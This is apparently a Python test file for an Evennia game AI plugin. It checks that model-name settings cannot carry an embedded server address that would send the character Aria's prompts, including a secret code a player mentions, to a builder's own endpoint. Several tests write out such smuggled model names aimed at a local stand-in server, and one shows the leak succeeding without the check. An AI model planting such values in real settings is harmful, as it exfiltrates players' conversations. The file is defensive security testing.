"""Where prompts go: addresses come from the game's settings alone."""

from django.test import override_settings

from evennia_ai import services
from evennia_ai.llm_interaction.client import ModelClient
from evennia_ai.llm_interaction.values import ModelRequest
from evennia_ai.sleep.compaction.compact import compact_conversation_history
from tests.command_line import WholePagesTest
from tests.loopback import LoopbackServer
from tests.waiting import wait_for

OPTIONS = ("llm_model", "compact_model", "llm_fallback_models")


class TestAttack(WholePagesTest):
    """A builder tells Aria to think at an address of the builder's own."""

    def setUp(self):
        super().setUp()
        self.enterContext(override_settings(EVENNIA_AI_LLM_MODEL="offline/extractive"))
        self.server = self.enterContext(LoopbackServer())
        self.evil = f"oobabooga/{self.server.url}/x"
        client = ModelClient()
        wait_for(client.warm_up())
        services.use(model=client)

    def live(self):
        """Say something, get an answer, and have it compacted."""
        self.say("Aria, the code of the cellar is 4711.")
        self.assertEqual(self.tick(), "turn")
        self.fill(30)
        self.configure(compact_preserve_window=4)
        done = compact_conversation_history(self.script, self.aria, force=True)
        self.assertTrue(wait_for(done)["success"])

    def test_the_attack_would_work(self):
        """LiteLLM asks the address in a model's name: only the check prevents it."""
        said = ({"role": "user", "content": "4711"},)
        request = ModelRequest(model=self.evil, messages=said, timeout_s=5.0)
        wait_for(services.mind().model.complete(request).addErrback(lambda failure: None))
        self.assertTrue(self.server.wait_for_requests(1))

    def test_set_behind_our_back(self):
        """Written into the Attributes by `set/script`, no name reaches the server."""
        padded = self.evil + "x" * 9000  # a text that is too long is cut, a name is not
        urls = (self.evil, padded, f"offline/{self.server.url}")
        for name in urls:
            for option in OPTIONS:
                self.typed(f"set/script Aria/{option} = {name}")
                self.assertEqual(self.script.attributes.get(option), name)
            self.live()
            self.assertEqual(self.script.model_name, "offline/extractive")
            shown = self.typed("aistatus Aria")
            for option in OPTIONS:
                self.assertIn(f"Wrong setting: `{option}` = ", shown)
            self.assertIn("takes the name" if name == padded else "holds an address", shown)
        self.assertEqual(self.server.bodies, [])

    def test_set_by_command(self):
        """`aiconfig` refuses it, of a superuser as well, and even where the list allows all."""
        self.account.is_superuser = True
        for allowed in (None, ["*"], [self.evil]):
            with override_settings(EVENNIA_AI_MODELS=allowed):
                for option in OPTIONS:
                    shown = self.typed(f"aiconfig Aria {option} = {self.evil}")
                    self.assertIn("holds an address", shown)
                    self.assertFalse(self.script.attributes.has(option))

    def test_only_models_of_the_list(self):
        """By default the game's own and the offline model; else those of the setting."""
        cases = (
            (None, ("offline/extractive",), ("openai/gpt-4o", "scripted/x", "openai//srv/x.gguf")),
            (["openai/*"], ("openai/gpt-4o", "offline/extractive"), ("ollama/llama3", "gpt-4o")),
            ("openai/gpt-4o", ("offline/extractive", "openai/gpt-4o"), ("openai/gpt-4",)),
        )
        for allowed, good, bad in cases:
            with override_settings(EVENNIA_AI_MODELS=allowed):
                for name in good:
                    self.assertTold(f"aiconfig Aria llm_model = {name}", f"llm_model is now {name}")
                for name in bad:
                    shown = self.typed(f"aiconfig Aria llm_model = {name}")
                    self.assertRegex(shown, "not among the models")
        self.typed("aiconfig Aria llm_model = default")
        self.configure(llm_model="openai/gpt-4o")
        with override_settings(EVENNIA_AI_MODELS=None):
            self.script.state.configure({})
            self.assertEqual(self.script.model_name, "offline/extractive")
